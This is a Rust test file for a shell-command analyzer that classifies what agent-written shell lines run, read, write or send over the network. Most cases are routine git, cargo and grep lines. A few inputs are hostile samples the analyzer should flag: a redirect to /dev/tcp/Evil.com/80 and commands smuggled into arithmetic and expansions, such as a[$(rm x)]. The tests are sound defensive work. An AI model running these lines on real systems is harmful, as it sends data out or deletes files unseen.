//! Lines as agents write them, and lines that try to disguise their effect.

use expect_test::{Expect, expect};
use haft_shell::{analyze_argv, analyze_line};

use super::shown::shown;

fn check(line: &str, expect: Expect) {
    expect.assert_eq(&shown(&analyze_line(line)));
}

#[test]
#[expect(clippy::too_many_lines, reason = "a line and what is found in it, many times")]
fn lines_of_agents_are_known() {
    check(
        "cd x && cargo test 2>&1 | tail -5",
        expect![[r#"
        run cd x
        run cargo test
        run tail -5
    "#]],
    );
    check(
        r#"git add -A && git commit -m "fix: it's done""#,
        expect![[r#"
        run git add -A
        run git commit -m 'fix: it'\''s done'
    "#]],
    );
    check(
        r#"git commit -m "$(cat <<'EOF'
fix: it's "done" (ok)
EOF
)""#,
        expect![[r#"
            run cat
            run git commit -m 'fix: it'\''s "done" (ok)'
        "#]],
    );
    check(
        r#"for f in *.rs; do wc -l "$f"; done"#,
        expect![[r#"
        partly wc -l "$f"
    "#]],
    );
    check(
        r#"cat > f.py <<'EOF'
print("$(x)")
EOF
python3 f.py"#,
        expect![[r#"
            run cat
            run python3 f.py
            write f.py
            read f.py
        "#]],
    );
    check(
        r#"while IFS= read -r line; do echo "$line" >> out; done < in"#,
        expect![[r#"
        run read -r line
        partly echo "$line"
        read in
        write out
    "#]],
    );
    check(
        "if ! grep -q x f; then echo y >> f; fi",
        expect![[r#"
        run grep -q x f
        run echo y
        read f
        write f
    "#]],
    );
    check(
        "npm run build > build.log 2>&1 &",
        expect![[r#"
        run npm run build
        write build.log
    "#]],
    );
    check(
        "GIT_PAGER=cat git log --oneline -5",
        expect![[r#"
        run git log --oneline -5
    "#]],
    );
    check(
        r#"set -euo pipefail; export CI=1 FOO="$BAR"; make -j4 CC=gcc"#,
        expect![[r#"
        run set -euo pipefail
        partly export CI=1 FOO="$BAR"
        run make -j4 CC=gcc
    "#]],
    );
    check(
        "sed -i 's/a b/c/g; 3d' f && sed -n '1,20p' g",
        expect![[r#"
        run sed -i 's/a b/c/g; 3d' f
        run sed -n 1,20p g
        read f
        write f
        read g
    "#]],
    );
    check(
        "[[ -f a && $x == y* ]] && echo ok || exit 1",
        expect![[r#"
        run echo ok
        run exit 1
    "#]],
    );
    check(
        "diff <(sort a) <(sort b)",
        expect![[r#"
        run sort a
        run sort b
        partly diff <(sort a) <(sort b)
        read a
        read b
    "#]],
    );
    check(
        "ls *.rs ~/x $HOME {a,b}",
        expect![[r#"
        partly ls *.rs ~/x $HOME {a,b}
        read .
    "#]],
    );
}

#[test]
fn searches_read_what_they_are_given_or_where_they_are() {
    check(
        "rg x",
        expect![[r#"
        run rg x
        read .
    "#]],
    );
    check(
        "rg -n x src",
        expect![[r#"
        run rg -n x src
        read src
    "#]],
    );
    check(
        "grep -r x",
        expect![[r#"
        run grep -r x
        read .
    "#]],
    );
    check(
        "cd src && grep -in --recursive -e x",
        expect![[r#"
        run cd src
        run grep -in --recursive -e x
        read src
    "#]],
    );
    check(
        "grep --directories=recurse x",
        expect![[r#"
        run grep --directories=recurse x
        read .
    "#]],
    );
    check(
        "grep -d skip x",
        expect![[r#"
        run grep -d skip x
        read .
    "#]],
    );
    check(
        "cargo test | grep -v ok | egrep -A 2 failed",
        expect![[r#"
        run cargo test
        run grep -v ok
        run egrep -A 2 failed
    "#]],
    );
    check(
        "ls | grep $options x",
        expect![[r#"
        run ls
        partly grep $options x
        read .
        read x
    "#]],
    );
}

#[test]
#[expect(clippy::too_many_lines, reason = "a line and what is found in it, many times")]
fn files_are_where_the_shell_is() {
    check(
        "cd a && rm b",
        expect![[r#"
        run cd a
        run rm b
        write a/b
    "#]],
    );
    check(
        "cd a; rm b",
        expect![[r#"
        run cd a
        run rm b
        write b
        write a/b
    "#]],
    );
    check(
        "(cd a && rm b); rm c",
        expect![[r#"
        run cd a
        run rm b
        run rm c
        write a/b
        write c
    "#]],
    );
    check(
        "cd a && cd .. && rm b",
        expect![[r#"
        run cd a
        run cd ..
        run rm b
        write b
        write a/../b
    "#]],
    );
    check(
        "cd a; cd ..; rm b",
        expect![[r#"
        run cd a
        run cd ..
        run rm b
        write b
        write a/b
        write a/../b
        unknown "b": its directory is not known
    "#]],
    );
    check(
        r#"cd "$x" && rm b && rm /c"#,
        expect![[r#"
        partly cd "$x"
        run rm b
        run rm /c
        write /c
        unknown "b": its directory is not known
    "#]],
    );
    check(
        "cd - && rm b",
        expect![[r#"
        run cd -
        run rm b
        unknown "b": its directory is not known
    "#]],
    );
    check(
        "pushd a && rm b",
        expect![[r#"
        run pushd a
        run rm b
        unknown "b": its directory is not known
    "#]],
    );
    check(
        "cd a | rm b",
        expect![[r#"
        run cd a
        run rm b
        write b
    "#]],
    );
    check(
        "if cd a; then rm b; else rm c; fi; rm d",
        expect![[r#"
        run cd a
        run rm b
        run rm c
        run rm d
        write a/b
        write c
        write d
        write a/d
    "#]],
    );
    check(
        "while cd a; do rm b; done",
        expect![[r#"
        run cd a
        run rm b
        unknown "b": its directory is not known
    "#]],
    );
    check(
        "f() { cd a; }; f; rm b",
        expect![[r#"
        run cd a
        run f
        run rm b
        unknown "b": its directory is not known
    "#]],
    );
    check(
        "f() { rm b; }; f",
        expect![[r#"
        run rm b
        run f
        write b
    "#]],
    );
    check(
        "! cd a || rm b",
        expect![[r#"
        run cd a
        run rm b
        write a/b
    "#]],
    );
    check(
        "cd a && { cd b; rm c; } && rm d",
        expect![[r#"
        run cd a
        run cd b
        run rm c
        run rm d
        write a/c
        write a/b/c
        write a/d
        write a/b/d
    "#]],
    );
    check(
        "env cd a; rm b",
        expect![[r#"
        run env > cd a
        run rm b
        write b
    "#]],
    );
    check(
        "command cd a && rm b",
        expect![[r#"
        run command > cd a
        run rm b
        write a/b
    "#]],
    );
    check(
        "ln -s a b && rm -r b/c",
        expect![[r#"
        run ln -s a b
        run rm -r b/c
        read a
        write b
        write b/c
        unknown "b/c": it is used by a name that the line links
    "#]],
    );
    check(
        "ln -s ../a && cat b",
        expect![[r#"
        run ln -s ../a
        run cat b
        read ../a
        write a
        read b
    "#]],
    );
    check(
        "cd ../x && rm b",
        expect![[r#"
        run cd ../x
        run rm b
        write ../x/b
    "#]],
    );
}

#[test]
#[expect(clippy::too_many_lines, reason = "a line and what is found in it, many times")]
fn redirections_lead_somewhere() {
    check(
        "a > b 2>> c < d <> e &> f >| g",
        expect![[r#"
        run a
        write b
        write c
        read d
        read e
        write e
        write f
        write g
    "#]],
    );
    check(
        "a > /dev/null 2>&1 < /dev/stdin 3>&- >&2",
        expect![[r#"
        run a
    "#]],
    );
    check(
        r#"a > "$x""#,
        expect![[r#"
        run a
        unknown "\"$x\"": it redirects to a file that is not known
    "#]],
    );
    check(
        "a > b*",
        expect![[r#"
        run a
        unknown "b*": it redirects to a file that is not known
    "#]],
    );
    check(
        "echo x > /dev/tcp/Evil.com/80",
        expect![[r#"
        run echo x
        host evil.com
        unknown "/dev/tcp/Evil.com/80": it redirects to the network
    "#]],
    );
    check(
        "{ a; b; } > c",
        expect![[r#"
        run a
        run b
        write c
    "#]],
    );
    check(
        "if a; then b; fi >> c",
        expect![[r#"
        run a
        run b
        write c
    "#]],
    );
    check(
        "f() { a; } > b; f",
        expect![[r#"
        run a
        run f
        write b
    "#]],
    );
    check(
        "cat <<< $(rm x)",
        expect![[r#"
        run rm x
        run cat
        write x
    "#]],
    );
    check(
        "cat <<E
$(rm x) ${y:-$(rm z)}
E",
        expect![[r#"
    run rm x
    run cat
    write x
    unknown "$(rm x) ${y:-$(rm z)}\n": it contains code inside an expansion
"#]],
    );
    check(
        "a > >(tee b)",
        expect![[r#"
        run tee b
        run a
        write b
    "#]],
    );
    check(
        "> x",
        expect![[r#"
        write x
    "#]],
    );
    check(
        "a >& b",
        expect![[r#"
        run a
        write b
    "#]],
    );
}

#[test]
fn arithmetic_is_trusted_with_what_the_line_spells() {
    check(
        "((i++)); echo $((i * 2))",
        expect![[r#"
        partly echo $((i * 2))
    "#]],
    );
    check(
        "x='a[$(rm y)]'; ((x))",
        expect![[r#"
        unknown "x='a[$(rm y)]'; ((x))": its arithmetic could run code from data
    "#]],
    );
    check(
        "x='a['; y='$(rm z)]'; ((x$y))",
        expect![[r#"
        unknown "x='a['; y='$(rm z)]'; ((x$y))": its arithmetic could run code from data
    "#]],
    );
    check(
        "n=$(wc -l < f); echo $((n + 1))",
        expect![[r#"
            run wc -l
            partly echo $((n + 1))
            read f
            unknown "n=$(wc -l < f); echo $((n + 1))": its arithmetic uses data from elsewhere
        "#]],
    );
    check(
        "read n; [[ $n -eq 1 ]]",
        expect![[r#"
            run read n
            unknown "read n; [[ $n -eq 1 ]]": its arithmetic uses data from elsewhere
        "#]],
    );
    check(
        "for i in *; do echo $((i)); done",
        expect![[r#"
            partly echo $((i))
            unknown "for i in *; do echo $((i)); done": its arithmetic uses data from elsewhere
        "#]],
    );
    check(
        "for ((i = 0; i < 3; i++)); do echo $i; done",
        expect![[r#"
        partly echo $i
    "#]],
    );
    check(
        "let PATH=1",
        expect![[r#"
            run let PATH=1
            unknown "let PATH=1": it sets a variable that decides what runs
        "#]],
    );
    check(
        "echo $(( $(rm x) ))",
        expect![[r#"
        partly echo $(( $(rm x) ))
        unknown "$(( $(rm x) ))": it contains code inside an expansion
    "#]],
    );
    check("[[ -v x ]]", expect![""]);
    check(
        "test -v 'a[$(rm x)]'",
        expect![[r#"
            run test -v 'a[$(rm x)]'
            unknown "test -v 'a[$(rm x)]'": its arithmetic could run code from data
        "#]],
    );
    check(
        "a[$(rm x)]=1",
        expect![[r#"
            unknown "a[$(rm x)]=1": it contains code inside an expansion
        "#]],
    );
    check(
        "n=$(cat f); [ $n -gt 1 ]",
        expect![[r#"
        run cat f
        partly '[' $n -gt 1 ']'
        read f
    "#]],
    );
    check(
        "echo ${a[i]}; read i",
        expect![[r#"
            partly echo ${a[i]}
            run read i
            unknown "echo ${a[i]}; read i": its arithmetic uses data from elsewhere
        "#]],
    );
}

#[test]
fn arguments_without_a_shell_are_taken_literally() {
    let check = |argv: &[&str], expect: Expect| {
        let argv: Vec<_> = argv.iter().map(|&word| word.to_owned()).collect();
        expect.assert_eq(&shown(&analyze_argv(&argv)));
    };
    check(
        &["rm", "-f", "$x", "a;b"],
        expect![[r#"
        run rm -f '$x' 'a;b'
        write $x
        write a;b
    "#]],
    );
    check(
        &["timeout", "5", "sh", "-c", "rm $x"],
        expect![[r#"
        partly timeout > sh > rm $x
    "#]],
    );
    check(
        &["env"],
        expect![[r#"
        run env
    "#]],
    );
    check(
        &[],
        expect![[r#"
        unknown "": its program is the result of an expansion
    "#]],
    );
}
